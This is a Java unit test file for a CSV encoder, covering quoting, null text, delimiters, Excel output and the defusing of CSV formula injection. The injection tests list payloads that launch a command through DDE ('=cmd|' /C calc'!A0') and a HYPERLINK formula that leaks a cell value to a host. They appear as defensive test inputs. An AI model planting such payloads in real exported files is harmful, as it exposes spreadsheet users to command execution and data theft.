package dev.sluice.export;

import static dev.sluice.export.Binary.NULL;
import static dev.sluice.export.Binary.column;
import static dev.sluice.export.Binary.int4;
import static dev.sluice.export.Binary.print;
import static dev.sluice.export.Binary.row;
import static dev.sluice.export.Binary.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvEncoderTest {
    private static final List<OutputColumn> TWO =
            List.of(column("id", BinaryType.INT4), column("name", BinaryType.TEXT));

    @Test
    void a_header_comes_first_and_a_null_is_nothing() {
        assertThat(csv(CsvOptions.STANDARD, row(int4(1), text("a")), row(NULL, NULL)))
                .isEqualTo("id,name\n1,a\n,\n");
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '~',
            ignoreLeadingAndTrailingWhitespace = false,
            value = {
                "~~|~\"\"~",
                "~a,b~|~\"a,b\"~",
                "~a\"b~|~\"a\"\"b\"~",
                "~\"~|~\"\"\"\"~",
                "~a b~|~a b~",
                "~\\.~|~\\.~",
                "~'~|~'~"
            },
            delimiter = '|')
    void fields_are_quoted_when_they_must_be(String value, String field) {
        assertThat(csv(CsvOptions.STANDARD, row(int4(1), text(value)))).isEqualTo("id,name\n1," + field + "\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\nb", "\r", "seven b\n", "eight by\rtes", "\n"})
    void line_breaks_are_quoted(String value) {
        assertThat(csv(CsvOptions.STANDARD, row(int4(1), text(value)))).isEqualTo("id,name\n1,\"" + value + "\"\n");
    }

    @Test
    void the_end_mark_of_copy_is_quoted_when_alone_on_a_line() {
        List<OutputColumn> one = List.of(column("\\.", BinaryType.TEXT));
        assertThat(print(Encoders.csv(one, CsvOptions.STANDARD), List.of(row(text("\\.")), row(text("\\..")))))
                .isEqualTo("\"\\.\"\n\"\\.\"\n\\..\n");
    }

    @Test
    void names_are_quoted_like_fields() {
        List<OutputColumn> columns = List.of(column("a\"b", BinaryType.TEXT), column("c,d", BinaryType.TEXT));
        assertThat(print(Encoders.csv(columns, CsvOptions.STANDARD), List.of())).isEqualTo("\"a\"\"b\",\"c,d\"\n");
    }

    @Test
    void a_value_that_equals_the_null_text_is_quoted_and_then_an_empty_one_is_not() {
        CsvOptions options = new CsvOptions(false, ';', "1", false);
        assertThat(csv(options, row(int4(1), text("1")), row(NULL, text("")), row(int4(12), text(","))))
                .isEqualTo("\"1\";\"1\"\n1;\n12;,\n");
    }

    @Test
    void a_delimiter_that_occurs_in_numbers_makes_them_quoted() {
        CsvOptions options = new CsvOptions(false, '-', "", false);
        assertThat(csv(options, row(int4(-1), text("a")))).isEqualTo("\"-1\"-a\n");
    }

    @Test
    void excel_gets_a_byte_order_mark_and_its_line_ends() {
        CsvOptions options = new CsvOptions(true, ';', "", true);
        assertThat(csv(options, row(int4(-1), text("a")))).isEqualTo("\ufeffid;name\r\n-1;a\r\n");
    }

    @Test
    void what_continues_a_file_for_excel_has_no_second_byte_order_mark() {
        CsvOptions options = new CsvOptions(false, ',', "", true, true);
        assertThat(csv(options, row(int4(1), text("=a")))).isEqualTo("1,'=a\r\n");
    }

    /** OWASP, CSV Injection: the signs, tab, carriage return, line feed, the full-width forms; written by hand. */
    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '~',
            ignoreLeadingAndTrailingWhitespace = false,
            delimiter = '|',
            value = {
                "=1+1|'=1+1",
                "+1|'+1",
                "-1|'-1",
                "@SUM(1)|'@SUM(1)",
                "=|'=",
                "~\tx~|~'\tx~",
                "~\t=1~|~'\t=1~",
                "~\r=1~|~\"'\r=1\"~",
                "~\n=1~|~\"'\n=1\"~",
                "\uff1d1|'\uff1d1",
                "\uff0b1|'\uff0b1",
                "\uff0d1|'\uff0d1",
                "\uff20x|'\uff20x",
                "=a(\"b\",1)|\"'=a(\"\"b\"\",1)\"",
                "~=cmd|' /C calc'!A0~|~'=cmd|' /C calc'!A0~",
                "~=HYPERLINK(\"http://x/?\"&A1;\"y\")~|~\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"y\"\")\"~"
            })
    void excel_cells_that_begin_a_formula_become_text(String value, String cell) {
        CsvOptions options = new CsvOptions(false, ',', "", true);
        assertThat(csv(options, row(int4(1), text(value)))).isEqualTo("\ufeff1," + cell + "\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1=1", "a-b", " =1", "'=1", "\u2212", "\uff1c1", "\uff0c", "\ufeff", "\uff10", "\uffe5", "#N/A", "x"
            })
    void excel_cells_that_begin_no_formula_stay_as_they_are(String value) {
        CsvOptions options = new CsvOptions(false, ',', "", true);
        assertThat(csv(options, row(int4(1), text(value)))).isEqualTo("\ufeff1," + value + "\r\n");
    }

    @Test
    void what_stands_for_a_null_is_no_formula_for_excel_either() {
        CsvOptions options = new CsvOptions(false, ';', "=1", true);
        assertThat(csv(options, row(int4(1), NULL), row(int4(2), text("=1")), row(int4(3), text("'=1"))))
                .isEqualTo("\ufeff1;'=1\r\n2;\"'=1\"\r\n3;\"'=1\"\r\n");
    }

    @Test
    void excel_cells_with_another_delimiter_are_quoted_for_that_one() {
        CsvOptions options = new CsvOptions(true, ';', "", true);
        assertThat(csv(options, row(int4(-1), text("a;b")), row(int4(2), text("a,b")), row(int4(3), text("-a;b"))))
                .isEqualTo("\ufeffid;name\r\n-1;\"a;b\"\r\n2;a,b\r\n3;\"'-a;b\"\r\n");
    }

    @Test
    void excel_names_are_defused_too_and_minus_infinity_is_no_number() {
        List<OutputColumn> columns = List.of(column("=a", BinaryType.FLOAT8), column("b", BinaryType.MONEY));
        RowFields row = row(Binary.int8(Double.doubleToRawLongBits(Double.NEGATIVE_INFINITY)), Binary.int8(-5));
        assertThat(print(Encoders.csv(columns, new CsvOptions(true, ',', "", true)), List.of(row)))
                .isEqualTo("\ufeff'=a,b\r\n'-Infinity,-$0.05\r\n");
    }

    @ParameterizedTest
    @ValueSource(chars = {'"', '\n', '\r', '\u00e9', 0, 0x7f})
    void delimiters_that_copy_refuses_are_refused(char delimiter) {
        assertThatThrownBy(() -> new CsvOptions(true, delimiter, "", false))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a,b", "\"", "a\n", "\r"})
    void null_texts_that_copy_refuses_are_refused(String nullText) {
        assertThatThrownBy(() -> new CsvOptions(true, ',', nullText, false))
                .isInstanceOf(IllegalArgumentException.class);
    }

    private static String csv(CsvOptions options, RowFields... rows) {
        return print(Encoders.csv(TWO, options), List.of(rows));
    }
}
